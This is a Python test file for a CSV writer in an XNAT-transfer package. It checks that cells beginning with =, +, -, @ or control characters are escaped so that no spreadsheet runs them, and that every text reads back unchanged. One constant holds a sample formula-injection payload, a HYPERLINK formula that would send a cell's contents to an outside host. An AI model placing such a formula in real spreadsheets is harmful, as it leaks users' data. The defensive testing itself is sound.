"""Cells of the CSVs that we write: no spreadsheet runs one, and every text comes back as it was."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as some

from xnbtransfer.csv_files import as_cell, as_cells, of_cell, read_lines, written_rows
from xnbtransfer.html import csv_text
from xnbtransfer.inventory import read_inventory_files, write_inventory
from xnbtransfer.record import read_csv
from xnbtransfer.values import SESSION_COLUMNS, Inventory, Settings, frame

RUN = ("=", "+", "-", "@", "\t", "\r", "\n")
FORMULA = '=HYPERLINK("http://x/?"&A1,"ok")'
# texts that begin as a formula or as an escaped one, more often than chance would have it
texts = some.builds("".join, some.tuples(some.sampled_from(["", "'", "''", *RUN, "'=", "''@"]), some.text(max_size=8)))


@given(texts)
def test_a_cell_is_no_formula_and_gives_its_text_back(text):
    assert not as_cell(text).startswith(RUN)
    assert of_cell(as_cell(text)) == text


@given(texts, texts)
def test_two_texts_are_never_one_cell(one, other):
    assert (as_cell(one) == as_cell(other)) == (one == other)


@pytest.mark.parametrize("text", ["001", "T1 MPRAGE", "a=b", "'s-Hertogenbosch", "", "Ü"])
def test_ordinary_text_is_written_as_it_is(text):
    assert as_cell(text) == text


def test_a_record_s_table(tmp_path):
    table = pd.DataFrame({"session": [FORMULA, "'=1", "S1"], "files": [-1, 2, 3], "=name": ["@x", "", "y"]})
    (tmp_path / "t.csv").write_text(csv_text(table), encoding="utf-8")
    cells = [cell for row in csv.reader((tmp_path / "t.csv").open(newline="")) for cell in row]
    assert [cell for cell in cells if cell.startswith(RUN)] == ["-1"], "a number is a number"
    assert read_csv(tmp_path / "t.csv")["session"].tolist() == table["session"].tolist()
    lines = read_lines(tmp_path / "t.csv", "table", ["session"])
    assert [row[0] for _, row in lines[1:]] == table["session"].tolist()
    assert [row["=name"] for row in written_rows(io.StringIO(csv_text(table)))] == ["@x", "", "y"]


def test_as_cells_leaves_the_frame_alone():
    table = pd.DataFrame({"session": ["=1"]})
    assert as_cells(table)["session"].tolist() == ["'=1"] and table["session"].tolist() == ["=1"]


def test_an_inventory_that_was_written_reads_the_same(tmp_path):
    row = {name: kind() for name, kind in SESSION_COLUMNS.items()}
    sessions = frame([row | {"session": "-1"}, row | {"session": FORMULA}], SESSION_COLUMNS)
    empty = pd.DataFrame()
    made = Inventory(server="https://xnat.example.org", project="P", user="u", read_at="", settings=Settings(),
                     sessions=sessions, scans=empty, resources=empty, files=empty, prearchive=empty)  # fmt: skip
    again = read_inventory_files(write_inventory(made, tmp_path / "inventory"))
    assert again.sessions["session"].tolist() == ["-1", FORMULA]
    assert FORMULA not in [row[0] for row in csv.reader((tmp_path / "inventory" / "sessions.csv").open(newline=""))]
